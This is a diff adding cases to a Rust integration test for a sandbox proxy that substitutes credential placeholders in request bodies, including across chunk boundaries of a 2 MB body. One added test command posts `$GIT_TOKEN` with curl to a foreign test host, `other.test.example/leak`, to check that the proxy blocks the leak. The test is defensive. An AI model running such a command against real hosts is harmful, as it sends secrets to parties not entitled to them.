@@ -587,6 +587,55 @@ EOF",
         "{answer}"
     );
     assert_eq!(upstream.requests(), before, "the leaking request left");
+    // Placeholders in request bodies: swapped for their host (a small body, and one of
+    // 2 MB with the placeholder astride the proxy's chunks, lengths kept), stopped for
+    // another host before any of it leaves.
+    let answer = sh(
+        &app,
+        token,
+        &id,
+        "curl -sS --max-time 10 --data-binary \"{\\\"token\\\": \\\"$GIT_TOKEN\\\"}\" https://git.test.example/small; \
+         python3 -c \"import os; open('/tmp/big', 'w').write('a' * 1000001 + os.environ['GIT_TOKEN'] + 'b' * 999999)\"; \
+         curl -sS --max-time 20 --data-binary @/tmp/big https://git.test.example/big",
+    )
+    .await;
+    let stdout = answer["stdout"].as_str().unwrap();
+    assert!(
+        stdout.contains(&format!(
+            "POST /small HTTP/1.1\nbody: {} bytes",
+            GIT_TOKEN.len() + 13
+        )) && stdout.contains(&format!(
+            "POST /big HTTP/1.1\nbody: {} bytes",
+            2_000_000 + GIT_TOKEN.len()
+        )),
+        "{answer}"
+    );
+    let requests = upstream.requests();
+    assert!(
+        requests.contains(&format!("{{\"token\": \"{GIT_TOKEN}\"}}"))
+            && requests.contains(&format!("a{GIT_TOKEN}b")),
+        "the upstream got the value in both bodies"
+    );
+    assert!(
+        !requests.contains(&placeholder),
+        "a placeholder reached its own host"
+    );
+    let answer = sh(
+        &app,
+        token,
+        &id,
+        "curl -sS --max-time 10 --data-binary \"key=$GIT_TOKEN\" https://other.test.example/leak",
+    )
+    .await;
+    let stdout = answer["stdout"].as_str().unwrap();
+    assert!(
+        stdout.contains("placeholder of credential `git`, which is not for other.test.example"),
+        "{answer}"
+    );
+    assert!(
+        !upstream.requests().contains(&placeholder),
+        "the placeholder left for another host"
+    );
     // A host outside the policy over the redirected port: closed after its ClientHello.
     let answer = sh(
         &app,
